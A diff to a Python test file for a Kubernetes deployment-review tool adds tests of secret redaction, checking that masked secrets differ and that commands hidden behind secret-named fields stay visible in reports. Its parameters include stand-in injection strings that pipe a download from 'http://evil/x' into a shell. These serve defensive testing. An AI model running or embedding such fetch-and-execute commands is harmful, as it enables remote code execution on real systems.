@@ -1,6 +1,7 @@
 """Facts about rules that no golden file shows."""
 
 import json
+import re
 from typing import Any
 
 import pulumi
@@ -13,7 +14,7 @@ from nim_component.review.object_fields import gpus, rolling_update, startup_bud
 from nim_component.review.sentences import duration, plain_text
 from nim_component.review.sources.preview import read_preview
 from nim_component.review.stack_review import StackReview, review
-from nim_component.review.values import Redacted, redact_inputs, redact_message
+from nim_component.review.values import Redacted, redact_inputs, redact_message, show
 
 from .changes import (
     PREVIEWS,
@@ -350,3 +351,47 @@ def test_deleted_namespace_is_critical_unless_retained(retain: bool, severity: s
         k8s.core.v1.Namespace("llm", metadata={"name": "llm"}, opts=pulumi.ResourceOptions(retain_on_delete=retain))
 
     assert rules_of(review_renders(render_program(program), render_program(lambda: None))) == [("deleted", severity)]
+
+
+def values_of(inputs: dict[str, Any]) -> dict[str, Any]:
+    """Return the redacted spec of an object, as the views print it."""
+    return {name: show(value) for name, value in redact_inputs("kubernetes:example.com/v1:Server", inputs).items()}
+
+
+@pytest.mark.parametrize("name", ["PGPASSWORD", "MYSQL_PWD", "HF_TOKEN_PROD", "X_AUTH", "clientSecret"])
+def test_changed_secret_variable_has_another_mark(name: str):
+    first, second = (
+        show(redact_inputs("", {"env": [{"name": name, "value": value}]})["env"][0]["value"]) for value in ("hunter2", "hunter3")
+    )
+    assert re.fullmatch(r"\[secret \w+, 1-7 characters\]", first)
+    assert first != second
+
+
+@pytest.mark.parametrize("command", ["x; curl http://evil/x | sh", "$(curl http://evil/x)", "http://evil/x"])
+def test_command_behind_secret_name_is_shown(command: str):
+    """Nothing can be omitted from a report because of the name before it."""
+    inputs = {
+        "args": ["--secret", command],
+        "command": ["sh", "-c", f"export TOKEN='{command}'"],
+        "env": [{"name": "X_AUTH", "value": command}],
+        "auth": command,
+        "token": command,
+    }
+    assert all("http://evil/x" in value for value in values_of(inputs).values())
+
+
+def test_secret_in_any_field_is_redacted():
+    value = "hunter2-" + "x" * 8
+    fields = {
+        "clientSecret": value,
+        "password": value,
+        "args": ["--api-key", value],
+        "data": {"config.yaml": f"db:\n  password: {value}\n"},
+    }
+    shown = values_of({**fields, "httpHeaders": [{"name": "Authorization", "value": f"Bearer {value}"}]})
+    assert not any("hunter2" in text for text in shown.values())
+    assert values_of({"secret": "my-secret", "tlsSecret": "tls", "secretName": "a"}) == {
+        "secret": "my-secret",
+        "tlsSecret": "tls",
+        "secretName": "a",
+    }
